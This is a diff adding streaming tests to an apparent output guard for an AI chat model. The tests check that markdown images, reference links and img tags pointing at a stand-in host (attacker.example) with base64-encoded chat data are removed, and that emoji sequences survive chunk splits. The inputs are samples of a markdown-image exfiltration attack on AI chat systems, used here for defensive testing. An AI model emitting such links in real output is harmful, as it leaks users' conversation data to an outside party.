@@ -87,3 +87,36 @@ def test_guarded_wraps_an_async_source_for_server_sent_events() -> None:
 
     events = asyncio.run(collect())
     assert events == ['data: {"text": "Mail [REDACTED:EMAIL]. "}\n\n', 'data: {"text": "Done."}\n\n']
+
+
+# Issue 11, inputs 13 and 14 streamed: any split into chunks gives what the whole-text check gives.
+DATA_URL = "https://attacker.example/p?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA"
+SAME_STREAMED = [
+    "Pride 🏳️‍🌈, keycap 1️⃣ and ❤️‍🔥. Family 👨‍👩‍👧‍👦 and 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f.",
+    f"Here is the chart: ![x][1]\n\n[1]: {DATA_URL}\n\nThanks.",
+    f"[1]: {DATA_URL}\n\nSee ![x][1] and [the report][1]. Bye.",
+    f"Look ![chart]({DATA_URL}) and <{DATA_URL}>. Then <img src='{DATA_URL}'> done.",
+]
+
+
+def test_any_two_chunk_split_streams_what_the_whole_check_gives() -> None:
+    for text in SAME_STREAMED:
+        whole = GUARD.check_output(text, streaming=True).text
+        assert "c2VjcmV0" not in whole, whole  # the data never leaves
+        for cut in range(1, len(text)):
+            released, _ = feed_all([text[:cut], text[cut:]])
+            assert "".join(released) == whole, (text, cut)
+
+
+def test_emoji_come_back_whole_from_the_output_check() -> None:
+    text = SAME_STREAMED[0]
+    verdict = GUARD.check_output(text)
+    assert verdict.allowed and verdict.text == text and verdict.failed == ()
+
+
+def test_a_forced_cut_in_a_long_run_never_splits_an_emoji_sequence() -> None:
+    text = "x" * 1995 + "🏳️‍🌈" * 4
+    cut = release_point(text)
+    assert text[:cut] == "x" * 1995 + "🏳️‍🌈"  # the cluster across index 2000 waits whole
+    released, _ = feed_all([text[i : i + 7] for i in range(0, len(text), 7)])
+    assert "".join(released) == text
